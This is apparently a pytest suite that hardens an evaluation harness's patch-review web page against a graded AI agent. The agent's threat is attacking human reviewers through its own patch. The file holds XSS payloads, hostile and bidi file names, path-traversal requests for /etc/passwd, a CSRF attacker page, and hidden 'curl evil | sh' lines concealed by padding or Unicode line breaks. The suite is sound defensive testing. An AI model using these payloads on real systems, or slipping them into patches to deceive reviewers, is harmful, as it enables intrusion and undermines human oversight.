"""Attacks on the merge-review page by the agent being graded, through what it controls: its patch (text, file
names, bytes, size), its trajectory, and so what the page shows. The real `evalharness review serve` runs as a
child process on 127.0.0.1 and is attacked over HTTP; script execution and cross-site writes are tried in a real
headless Chromium.

Pins: a patch that runs as script or breaks the page, a class name or link taken from the patch, a page that says
which patch is gold or which configuration made it, a write from another origin or a foreign Host, a trial folder
that makes the server read files outside it, and patch text the reviewer is not shown.
"""

from __future__ import annotations

import http.client
import json
import queue
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browser_support import chromium as open_chromium, need_chromium
from review_run import MODELS, RUN_ID, SECRETS, make_run
from support import EVALHARNESS

PWN = "window.__pwned=1;document.title='pwned'"
HOSTILE_LINES = [
    f"+</script><script>{PWN}</script>",
    f"+<!-- <script>{PWN}</script> -->",
    f"+<img src=x onerror=\"{PWN}\"><svg onload=\"{PWN}\"><a href=\"javascript:{PWN}\">x</a>",
    "+<style>body{background:url(http://127.0.0.1:9/css)}</style><link rel=stylesheet href=http://127.0.0.1:9/l>",
    "+\"quote\" \\ backslash ]}) ]]> \ufeff \u200b",
]
HOSTILE_PATH = "x\" onerror=\"" + PWN + "\".py"
SVG_PATH = "img/<svg onload=alert(1)>.svg"
BIDI_PATH = "src/evil\u202egnp.py"


def hostile_patch(extra_files: str = "") -> str:
    body = "\n".join(HOSTILE_LINES)
    return (f"diff --git a/{HOSTILE_PATH} b/{HOSTILE_PATH}\n--- a/{HOSTILE_PATH}\n+++ b/{HOSTILE_PATH}\n"
            f"@@ -1,1 +1,6 @@\n ctx\n{body}\n"
            f"diff --git a/{SVG_PATH} b/{SVG_PATH}\n--- a/{SVG_PATH}\n+++ b/{SVG_PATH}\n"
            f"@@ -0,0 +1 @@\n+<svg xmlns='http://www.w3.org/2000/svg' onload='{PWN}'><script>{PWN}</script></svg>\n"
            f"diff --git a/javascript:alert(1) b/javascript:alert(1)\n--- a/javascript:alert(1)\n"
            f"+++ b/javascript:alert(1)\n@@ -0,0 +1 @@\n+http://127.0.0.1:9/fetch-me.png\n" + extra_files)


def agent_folders(store, runs_dir: Path) -> list[Path]:
    return [runs_dir / r["detail"] for r in store.trial_rows([RUN_ID])
            if r["harness"] != "oracle" and (runs_dir / r["detail"] / "patch.diff").read_text().strip()]


class Serve:
    """`evalharness review serve RUN_ID --reviewer NAME` in a child process; ``port`` is the one it printed."""

    def __init__(self, runs_dir: Path, cwd: Path, *args: str, reviewer: str = "ann", wait: float = 60):
        self.proc = subprocess.Popen([*EVALHARNESS, "review", "serve", RUN_ID, "--reviewer", reviewer, "--port",
                                      "0", "--runs-dir", str(runs_dir), *args], cwd=cwd, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        lines: queue.Queue[str] = queue.Queue()
        threading.Thread(target=lambda: [lines.put(x) for x in self.proc.stdout], daemon=True).start()
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline:
            try:
                line = lines.get(timeout=0.5)
            except queue.Empty:
                if self.proc.poll() is not None:
                    raise AssertionError(f"serve exited {self.proc.returncode}: {self.proc.stderr.read()}")
                continue
            if "http://127.0.0.1:" in line:
                self.url = line[line.index("http://"):].split()[0].rstrip("/")
                self.port = int(self.url.rsplit(":", 1)[1].split("/")[0])
                return
        self.stop()
        raise AssertionError(f"serve printed no address within {wait} s")

    def call(self, method: str, path: str, body: bytes | None = None, headers: dict | None = None):
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        raw = response.read()
        conn.close()
        return response.status, dict(response.getheaders()), raw

    def queue(self) -> dict:
        status, _, raw = self.call("GET", "/api/queue")
        assert status == 200
        return json.loads(raw)

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=30)


@pytest.fixture
def hostile_run(tmp_path):
    """The review demo run with every agent patch replaced by the hostile one (the first also gets NUL bytes,
    invalid UTF-8 and a bidi-named file)."""
    store, runs_dir, _ = make_run(tmp_path)
    folders = agent_folders(store, runs_dir)
    for n, folder in enumerate(folders):
        patch = hostile_patch().encode()
        if n == 0:
            patch += (f"diff --git a/{BIDI_PATH} b/{BIDI_PATH}\n--- a/{BIDI_PATH}\n+++ b/{BIDI_PATH}\n"
                      "@@ -0,0 +1 @@\n+nul\x00byte bad\xff\xfeutf8 \u202eevil\u202c\n").encode()
            patch = patch.replace(b"bad\xc3\xbf\xc3\xbe", b"bad\xff\xfe")
        (folder / "patch.diff").write_bytes(patch)
    return store, runs_dir, folders


@pytest.fixture
def served(hostile_run, tmp_path):
    store, runs_dir, folders = hostile_run
    servers = []

    def start(*args, **kw):
        servers.append(Serve(runs_dir, tmp_path, *args, **kw))
        return servers[-1]

    yield start, store, runs_dir, folders
    for s in servers:
        s.stop()


def _public_text(q: dict) -> str:
    """The queue answer without the agent's own texts (patch tokens, file names): what the page adds."""
    items = [{k: v for k, v in i.items() if k not in ("files", "statement")} for i in q["items"]]
    return json.dumps({**q, "items": items})


def _shown(q: dict) -> str:
    """Every file name and diff line of the queue as the page shows it (its tokens joined), one per line."""
    return "\n".join([f["path"] for i in q["items"] for f in i["files"]]
                     + ["".join(t for _, t in line["tokens"]) for i in q["items"] for f in i["files"]
                        for line in f["lines"]])


# --- over HTTP ----------------------------------------------------------------------------------------------------

def test_the_page_is_locked_by_a_nonce_csp_and_the_patch_arrives_as_json_data(served):
    start, *_ = served
    s = start()
    status, headers, page = s.call("GET", "/")
    csp = headers["Content-Security-Policy"]
    assert status == 200 and "default-src 'none'" in csp and "script-src 'nonce-" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp and "connect-src 'self'" in csp
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "no-referrer"
    assert b"pwned" not in page and b"onerror" not in page  # the page itself carries nothing of the patch
    status, headers, raw = s.call("GET", "/api/queue")
    assert status == 200 and headers["Content-Type"].startswith("application/json")
    q = json.loads(raw)
    agent = [i for i in q["items"] if any(f["path"] == HOSTILE_PATH for f in i["files"])]
    assert len(agent) == 8  # every hostile agent patch is there, as data, its file name verbatim
    lines = ["".join(t for _, t in line["tokens"]) for line in agent[0]["files"][0]["lines"]]
    for hostile in HOSTILE_LINES:
        assert hostile in lines


def test_highlighter_classes_and_line_kinds_come_from_a_fixed_set_not_from_the_patch(served):
    from pygments.token import STANDARD_TYPES

    start, *_ = served
    q = start().queue()
    allowed = set(STANDARD_TYPES.values()) | {""}
    for item in q["items"]:
        for f in item["files"]:
            for line in f["lines"]:
                assert line["kind"] in {"add", "del", "ctx", "hunk", "meta"}
                for cls, _ in line["tokens"]:
                    assert cls in allowed, cls
        for tests in item["tests"].values():
            assert set(tests.values()) <= {"passed", "failed", "error", "missing", "skipped", "xfailed"}


def test_nul_bytes_and_invalid_utf8_in_a_patch_leave_a_valid_queue(served):
    start, *_ = served
    q = start().queue()
    shown = _shown(q)
    assert "nul\x00byte" in shown and "bad\ufffd\ufffdutf8" in shown


def test_no_answer_adds_configuration_or_gold_and_a_gold_item_has_the_agent_items_shape(served):
    start, store, runs_dir, folders = served
    # the agent claims to be gold and names a model in its diff: that is its own text (a residual tell)
    (folders[1] / "patch.diff").write_text(hostile_patch().replace("ctx", f"ctx gold reference {MODELS[1]}"))
    s = start("--gold", "2")
    q = s.queue()
    added = _public_text(q)
    for secret in (*SECRETS, "oracle", '"gold"', '"agent"', "arm", "config", "trial", "run_id"):
        assert secret not in added, secret
    shapes = {tuple(sorted(i)) for i in q["items"]}
    per_task: dict[str, set] = {}
    for i in q["items"]:
        names = tuple(sorted((k, tuple(sorted(v))) for k, v in i["tests"].items()))
        per_task.setdefault(i["task_id"], set()).add(names)
    assert len(shapes) == 1 and all(len(v) == 1 for v in per_task.values())  # gold reads like any item
    assert len({len(i["item_id"]) for i in q["items"]}) == 1
    assert MODELS[1] in _shown(q)  # the residual: the agent printed it in its own patch


def test_trajectories_add_only_the_agents_own_words(served):
    start, *_ = served
    q = start("--trajectories", "--no-gold").queue()
    assert all(i["trajectory"] is not None for i in q["items"])
    summaries = json.dumps([{k: v for k, v in i["trajectory"].items() if k not in ("commands", "final_message")}
                            for i in q["items"]])
    assert all(s not in summaries for s in SECRETS)


@pytest.mark.parametrize("headers, status", [
    ({"Host": "evil.example:80"}, 403),  # DNS rebinding: a foreign name resolving to 127.0.0.1
    ({"Host": "127.0.0.1.evil.example"}, 403),
    ({"Content-Type": "text/plain"}, 415),  # what a cross-site form or no-cors fetch can send
    ({"Content-Type": "application/x-www-form-urlencoded"}, 415),
    ({"Content-Type": "multipart/form-data; boundary=x"}, 415),
])
def test_a_cross_site_or_rebound_write_is_refused_and_stores_nothing(served, headers, status):
    start, store, *_ = served
    s = start()
    item = s.queue()["items"][0]["item_id"]
    body = json.dumps({"item_id": item, "verdict": "merge", "reasons": [], "note": "", "seconds": 3}).encode()
    base = {"Host": f"127.0.0.1:{s.port}", "Content-Type": "application/json", "Content-Length": str(len(body))}
    got, answer_headers, raw = s.call("POST", "/api/reviews", body, {**base, **headers})
    assert got == status, (got, raw)
    assert "Access-Control-Allow-Origin" not in answer_headers
    assert store.reviews([RUN_ID], latest=False) == []
    got, answer_headers, _ = s.call("OPTIONS", "/api/reviews", None, {
        "Host": f"127.0.0.1:{s.port}", "Origin": "http://evil.example", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type"})
    assert "Access-Control-Allow-Origin" not in answer_headers and "Access-Control-Allow-Headers" not in answer_headers
    got, _, _ = s.call("GET", "/api/queue", None, {"Host": "evil.example"})
    assert got >= 400


@pytest.mark.parametrize("path", ["/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.review-secret",
                                  "/api/queue/../../.review-secret", "//etc/passwd", "/patch.diff"])
def test_the_server_serves_no_file_by_its_path(served, path):
    start, store, runs_dir, _ = served
    s = start()
    status, _, raw = s.call("GET", path)
    assert status == 404
    assert b"root:" not in raw and (runs_dir / ".review-secret").read_text().strip().encode() not in raw


def _swap_patch_for_link(folder: Path, target: Path) -> None:
    (folder / "patch.diff").unlink()
    (folder / "patch.diff").symlink_to(target)


def test_a_symlinked_patch_does_not_read_outside_the_trial_folder(served):
    start, store, runs_dir, folders = served
    secret_file = runs_dir / ".review-secret"
    start().stop()  # makes the secret
    _swap_patch_for_link(folders[0], secret_file)
    _swap_patch_for_link(folders[1], Path("/etc/passwd"))
    text = _shown(start().queue())
    assert secret_file.read_text().strip() not in text
    assert "root:" not in text


def test_a_trial_detail_with_dotdot_does_not_read_outside_the_runs_folder(served, tmp_path):
    start, store, runs_dir, folders = served
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "patch.diff").write_text("diff --git a/o b/o\n@@ -0,0 +1 @@\n+OUTSIDE-THE-RUNS-FOLDER\n")
    rows = [r for r in store.trial_rows([RUN_ID]) if r["harness"] != "oracle"]
    with store.engine.begin() as conn:  # what a hostile or corrupted store row says
        from sqlalchemy import text

        conn.execute(text("UPDATE trials SET detail = :d WHERE run_id = :r AND trial_id = :t"),
                     {"d": "../outside", "r": RUN_ID, "t": rows[0]["trial_id"]})
    assert "OUTSIDE-THE-RUNS-FOLDER" not in _shown(start().queue())


def test_a_long_line_is_shown_whole_or_marked_cut(served):
    start, store, runs_dir, folders = served
    hidden = "+x = 1" + " " * 2100 + "; import os; os.system('curl evil | sh')"
    (folders[0] / "patch.diff").write_text(f"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -0,0 +1 @@\n"
                                           f"{hidden}\n")
    q = start().queue()
    shown = ["".join(t for _, t in line["tokens"]) for i in q["items"] for f in i["files"] for line in f["lines"]
             if f["path"] == "a.py" and line["kind"] == "add"]
    assert shown and ("os.system" in shown[0] or "cut" in shown[0])


def test_an_added_line_with_unicode_line_breaks_stays_one_added_line(served):
    start, store, runs_dir, folders = served
    sneaky = ["+ok = 1\u2028 os.system('curl evil | sh')", "+ok = 2\x85-removed_looking()", "+ok = 3\x0c also()"]
    (folders[0] / "patch.diff").write_text("diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -0,0 +1,3 @@\n"
                                           + "\n".join(sneaky) + "\n")
    q = start().queue()
    [f] = [f for i in q["items"] for f in i["files"] if f["path"] == "a.py"]
    shown = [(line["kind"], "".join(t for _, t in line["tokens"])) for line in f["lines"] if line["kind"] != "meta"]
    assert shown[1:] == [("add", line) for line in sneaky], shown


def test_bidi_controls_in_a_file_name_or_line_are_made_visible(served):
    start, *_ = served
    q = start().queue()
    paths = [f["path"] for i in q["items"] for f in i["files"]]
    tokens = [t for i in q["items"] for f in i["files"] for line in f["lines"] for _, t in line["tokens"]]
    assert any("evil" in p and "gnp" in p for p in paths)
    assert not any("\u202e" in x for x in paths + tokens)


@pytest.mark.slow
def test_a_huge_patch_is_cut_and_the_server_still_starts_quickly(served):
    start, store, runs_dir, folders = served
    body = "+x = foo(1, 'a')\n" * 180_000
    (folders[0] / "patch.diff").write_text(f"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -0,0 +1 @@\n{body}")
    began = time.monotonic()
    s = start(wait=120)
    status, _, raw = s.call("GET", "/api/queue")
    assert time.monotonic() - began < 15 and status == 200 and len(raw) < 2_000_000


# --- in Chromium --------------------------------------------------------------------------------------------------

def _wait(driver, script: str, what: str, timeout: float = 20) -> None:
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(driver, timeout).until(lambda d: d.execute_script(script), what)


def _errors(driver) -> list[dict]:
    return [e for e in driver.get_log("browser") if e["level"] in ("SEVERE", "ERROR")]


@pytest.fixture
def chromium(tmp_path):
    need_chromium()
    with open_chromium(tmp_path, page_load_timeout=60, console_log=True) as driver:
        yield driver


@pytest.mark.browser
@pytest.mark.slow
def test_no_hostile_patch_runs_as_script_or_fetches_anything_in_chromium(served, chromium):
    start, store, runs_dir, folders = served
    s = start("--no-gold")
    chromium.get(s.url + "/")
    _wait(chromium, "return document.querySelectorAll('#files .line').length > 0", "the diff never showed")
    for _ in range(len(folders)):  # every item, each diff drawn
        assert chromium.execute_script("return window.__pwned") is None
        assert chromium.title != "pwned"
        assert chromium.find_elements("css selector", "#files script, #files img, #files svg, #files a, "
                                                      "#files style, #files link, #files iframe") == []
        chromium.find_element("css selector", "body").send_keys("n")
        time.sleep(0.2)
    assert chromium.execute_script("return window.__pwned") is None and chromium.title != "pwned"
    assert HOSTILE_PATH in chromium.execute_script("return document.getElementById('files').textContent") or \
        HOSTILE_PATH in json.dumps(s.queue())
    names = chromium.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
    assert all(n.startswith(s.url) for n in names), names
    assert _errors(chromium) == []
    assert store.reviews([RUN_ID], latest=False) == []


ATTACKER_PAGE = """<!doctype html><html><body><form id=f method=POST action="{target}/api/reviews"
enctype="text/plain"><input name='{{"item_id":"{item}","verdict":"merge","reasons":[],"note":"","seconds":1,"x":"'
value='"}}'></form><script>
const body = JSON.stringify({{item_id: "{item}", verdict: "merge", reasons: [], note: "csrf", seconds: 1}});
fetch("{target}/api/reviews", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "application/json"}},
  body}}).catch(() => {{}});
fetch("{target}/api/reviews", {{method: "POST", headers: {{"Content-Type": "application/json"}}, body}})
  .then(() => {{ window.__cors = "sent"; }}).catch(() => {{ window.__cors = "blocked"; }});
fetch("{target}/api/queue").then(r => r.text()).then(t => {{ window.__read = t; }})
  .catch(() => {{ window.__read = "blocked"; }});
try {{ navigator.sendBeacon("{target}/api/reviews", new Blob([body], {{type: "text/plain"}})); }} catch (e) {{}}
setTimeout(() => {{ window.__done = 1; }}, 1500);
</script></body></html>"""


@pytest.mark.browser
@pytest.mark.slow
def test_another_origin_in_the_same_browser_cannot_write_or_read_reviews(served, chromium):
    start, store, *_ = served
    s = start("--no-gold")
    item = s.queue()["items"][0]["item_id"]
    page = ATTACKER_PAGE.format(target=s.url, item=item).encode()

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args):
            pass

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:  # localhost:P is another origin than 127.0.0.1:Q, as any site is
        chromium.get(f"http://localhost:{attacker.server_address[1]}/")
        _wait(chromium, "return window.__done === 1 && window.__cors !== undefined && window.__read !== undefined",
              "the attacker page never finished")
        assert chromium.execute_script("return window.__cors") == "blocked"
        assert chromium.execute_script("return window.__read") == "blocked"
        chromium.execute_script('document.getElementById("f").submit()')  # a text/plain form post
        _wait(chromium, "return document.body && document.body.textContent.includes('application/json')",
              "the form post got no refusal")
    finally:
        attacker.shutdown()
        attacker.server_close()
    assert store.reviews([RUN_ID], latest=False) == []


@pytest.mark.browser
@pytest.mark.slow
def test_a_reviewer_saving_a_hostile_patch_stores_their_verdict_only(served, chromium):
    start, store, *_ = served
    s = start("--no-gold", reviewer="ann")
    chromium.get(s.url + "/")
    _wait(chromium, "return document.querySelectorAll('#files .line').length > 0", "the diff never showed")
    body = chromium.find_element("css selector", "body")
    body.send_keys("r")
    body.send_keys("1")
    body.send_keys("\ue007")  # Enter
    _wait(chromium, "return document.getElementById('progress').textContent.includes('1 of')", "never saved")
    [row] = store.reviews([RUN_ID], latest=False)
    assert (row["reviewer"], row["verdict"], row["source"]) == ("ann", "reject", "web")
    assert chromium.execute_script("return window.__pwned") is None and _errors(chromium) == []

